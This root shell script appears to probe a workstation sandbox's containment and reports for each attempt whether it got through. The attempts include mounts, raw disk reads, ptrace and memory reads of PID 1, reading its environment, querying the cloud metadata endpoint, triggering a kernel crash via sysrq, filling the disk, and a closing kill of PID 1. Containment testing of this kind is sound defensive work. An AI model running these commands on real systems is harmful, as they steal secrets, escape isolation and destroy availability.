# Runs as root in a workstation whose project may have root. Says of each try whether it went through.
try() { name=$1; shift; if "$@" >/dev/null 2>&1; then echo "THROUGH $name"; else echo "held $name"; fi; }
try mount mount -t tmpfs none /mnt
try bind mount --bind /etc /mnt
try guest sh -c 'echo x > /.bellglass/guest'
try channel touch /.bellglass/channel/planted
try disk sh -c 'mknod /dev/sda b 8 0 && cat /dev/sda'
try device mknod /srv/null c 1 3
try trace python3 -c 'import ctypes,sys; sys.exit(ctypes.CDLL(None).ptrace(16, 1, 0, 0) != 0)'
try memory sh -c 'cat /proc/1/mem || cat /proc/1/environ || cat /proc/1/maps'
try descriptors sh -c 'for one in /proc/1/fd/*; do readlink $one && exit 0; cat < $one && exit 0; done; exit 1'
try root ls /proc/1/root/
try unshare unshare --user --map-root-user true
try chroot chroot / true
try hostname hostname evil
try kernel sh -c 'echo 1 > /proc/sys/kernel/panic || echo c > /proc/sysrq-trigger'
try raw python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'
try outside curl -sS --max-time 5 http://169.254.169.254/ --fail
try limits python3 -c 'import resource as r; r.setrlimit(r.RLIMIT_NOFILE, (1 << 30, 1 << 30))'
try file dd if=/dev/zero of=/var/tmp/all bs=1M count=4096
rm -f /var/tmp/all
kill -STOP 1 2>/dev/null; kill -KILL 1 2>/dev/null
exit 0
